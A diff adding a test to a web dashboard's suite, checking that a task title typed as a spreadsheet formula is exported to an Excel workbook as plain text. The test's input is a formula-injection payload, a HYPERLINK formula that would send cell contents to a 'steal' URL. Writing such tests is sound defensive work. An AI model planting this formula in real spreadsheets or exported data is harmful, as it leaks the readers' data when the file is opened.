@@ -103,3 +103,16 @@ async def test_the_task_list_in_the_readers_language(dashboard: httpx.AsyncClien
 async def test_a_workbook_needs_a_session() -> None:
     async with web_app(answer=services) as stranger:
         assert (await stranger.get("/tasks.xlsx")).status_code == 303
+
+
+async def test_a_title_written_as_a_formula_stays_text_in_the_workbook(dashboard: httpx.AsyncClient) -> None:
+    """What a department typed is shown, never run: a title that begins as a formula would be a
+    live HYPERLINK or DDE call in the reader's Excel."""
+    hostile = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"点击查看")'
+    TODO["items"][0]["title"] = hostile
+    try:
+        sheet = await sheet_of(dashboard, "/todo.xlsx")
+    finally:
+        TODO["items"][0]["title"] = "Hydrogen vehicle cluster"
+    cell = sheet.cell(2, 2)
+    assert cell.value == hostile and cell.data_type == "s"
